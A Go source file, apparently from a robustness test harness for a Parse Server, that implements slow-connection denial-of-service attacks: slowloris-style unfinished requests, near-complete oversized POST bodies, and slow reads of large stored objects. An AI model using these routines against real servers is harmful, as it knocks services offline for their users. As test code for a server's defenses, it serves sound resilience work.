package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// Attacks that need no more than a connection, or that misuse one.

// connect lends use a connection, which ends with the attack.
func (s *server) connect(ctx context.Context, use func(net.Conn)) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", s.host)
	if err != nil {
		wait(ctx, 100*time.Millisecond)
		return
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	defer conn.Close()
	use(conn)
}

var filling = []byte(strings.Repeat(" ", 64<<10))

// sendSlowly sends nearly all of a large body, with or without the application id, and
// no more until the server closes the connection.
func sendSlowly(ctx context.Context, s *server, n int) {
	key := ""
	if n%2 == 0 {
		key = "X-Parse-Application-Id: " + appID + "\r\n"
	}
	s.connect(ctx, func(conn net.Conn) {
		_, _ = fmt.Fprintf(conn, "POST /parse/classes/Row HTTP/1.1\r\nHost: h\r\n%sContent-Length: 20000000\r\n\r\n", key)
		for sent := 0; sent < 19_000_000; sent += len(filling) {
			if _, err := conn.Write(filling); err != nil {
				return
			}
		}
		_, _ = io.Copy(io.Discard, conn)
	})
}

// beginRequest says nothing after the first line of a request. It pauses before it
// connects again, for on one machine with the server a flood of connections costs the
// attacker as much as the server.
func beginRequest(ctx context.Context, s *server, _ int) {
	s.connect(ctx, func(conn net.Conn) {
		_, _ = io.WriteString(conn, "POST /parse/classes/Row HTTP/1.1\r\n")
		_, _ = io.Copy(io.Discard, conn)
	})
	wait(ctx, time.Second)
}

// storeLargeObjects makes the answers large that takeNoAnswer asks for.
func storeLargeObjects(ctx context.Context, s *server) error {
	for range 30 {
		if err := s.must(ctx, attackers, nil, http.MethodPost, "/classes/Large", `{"s":"`+strings.Repeat("x", 1<<20)+`"}`, nil); err != nil {
			return err
		}
	}
	return nil
}

// takeNoAnswer asks for much and reads nothing of it.
func takeNoAnswer(ctx context.Context, s *server, _ int) {
	s.connect(ctx, func(conn net.Conn) {
		_, _ = fmt.Fprintf(conn, "GET /parse/classes/Large HTTP/1.1\r\nHost: h\r\nX-Parse-Application-Id: %s\r\n\r\n", appID)
		wait(ctx, 20*time.Second)
	})
}
